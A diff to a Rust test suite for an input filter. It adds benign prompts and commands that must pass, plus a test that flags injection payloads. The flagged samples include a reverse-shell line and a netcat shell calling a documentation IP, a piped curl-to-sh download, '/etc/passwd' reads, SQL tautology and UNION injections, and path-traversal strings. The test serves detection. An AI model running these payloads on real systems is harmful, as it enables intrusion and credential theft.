@@ -184,6 +184,84 @@ fn people_may_talk_about_all_of_it() {
     );
 }
 
+/// Work as people send it: nothing in it leaves a context that it did not open itself.
+#[test]
+fn words_commands_queries_and_code_are_work() {
+    passes(
+        FieldKind::Prompt,
+        &[
+            "ping",
+            "redis",
+            "vim",
+            "pwd",
+            "noop",
+            "sudo",
+            "awk",
+            "apt",
+            "redis vs memcached",
+            "curl",
+            "base64",
+            "whoami",
+            "/etc/hosts",
+            "../",
+            "../../lib/a.ts",
+            "/var/log/syslog is 40 GB",
+            "print(\"hi\")",
+            "<html>",
+            "javascript:",
+            "SELECT 1",
+            "SELECT name FROM visits WHERE day = 3; DELETE FROM carts;",
+            "SELECT a.id FROM a UNION ALL SELECT b.id FROM b;",
+            "UPDATE t SET n = 1 WHERE kind = 'tea' OR kind = 'coffee';",
+            "ls -la",
+            "cat README.md",
+            "rm tmp.txt",
+            "curl -s localhost:8000/health",
+            "chmod +x install.sh && ./install.sh --prefix=$HOME/opt",
+            "tar czf a-$(date +%F).tgz src/",
+            "for f in *.log; do gzip \"$f\"; done",
+            "out.txt: a.c ; ./a | tee out.txt",
+            "Get-ChildItem | Where-Object {$_.Length -gt 1MB} | Remove-Item",
+            "ipconfig /all",
+            "#!/bin/bash\nset -eu\nfor f in \"$@\"; do\n  mv -- \"$f\" \"${f// /_}\"\ndone",
+            "int main(void){char *a=\"; ls\"; return system(a)||1;}",
+            "id;name;note\n1;Ann;ok\n2;Bob;\"--\"",
+            "https://shop.example/item?id=5&ref=../home#reviews",
+            "(&(objectClass=person)(|(cn=Ann*)(mail=*@example.org)))",
+            "<role>helper</role>\n<rules>\n<rule>Be brief.</rule>\n</rules>",
+            "<img src=\"cat.png\" alt=\"my cat\">",
+            "<button onclick=\"toggle()\">Menu</button> how without inline handlers",
+            "@bot run tests on PR #512 && ping me when done",
+        ],
+    );
+}
+
+/// The payloads that those would be, had they left their place.
+#[test]
+fn what_breaks_out_is_hit_whatever_it_begins_with() {
+    hits(
+        FieldKind::Prompt,
+        Category::Command,
+        &[
+            "8.8.8.8; cat /etc/passwd",
+            "10.0.0.1 && whoami",
+            "if not defined X del a",
+            "x | nc 198.51.100.7 99 -e /bin/sh",
+            "curl http://198.51.100.7/a | sh; bash -i >& /dev/tcp/198.51.100.7/9 0>&1",
+        ],
+    );
+    hits(
+        FieldKind::Prompt,
+        Category::Sql,
+        &["tea' OR 'a'='a", "3 UNION SELECT null, login FROM staff"],
+    );
+    hits(
+        FieldKind::Prompt,
+        Category::PathTraversal,
+        &["..%2f..%2fsecret", "../../../../secret", "../../etc/passwd"],
+    );
+}
+
 #[test]
 fn identifiers_and_file_names_pass() {
     passes(
@@ -216,6 +294,17 @@ fn identifiers_and_file_names_pass() {
             "sha256:9f86d081884c7d65",
             "v1.0.0-rc.1+build.5",
             "weights.safetensors",
+            "<ann@example.org>",
+            "../ann",
+            "../shared/notes.md",
+            "./models/../models/a.gguf",
+            "path=../x",
+            "env=staging",
+            "mysql",
+            "base64",
+            "noop",
+            "bug; good first issue",
+            "Q1 & Q2 'draft'.xlsx",
         ],
     );
 }
@@ -247,6 +336,7 @@ fn headers_and_query_strings_pass() {
             "q=rock%20%26%20roll&lang=en",
             "from=2024-01-01T00:00:00Z&to=2024-02-01T00:00:00Z",
             "filter[status]=open&include=owner,tags",
+            "path=../x",
             "Bearer abc.def-ghi_jkl",
             "bytes=0-1023",
             "W/\"67ab43\", \"54ed21\"",
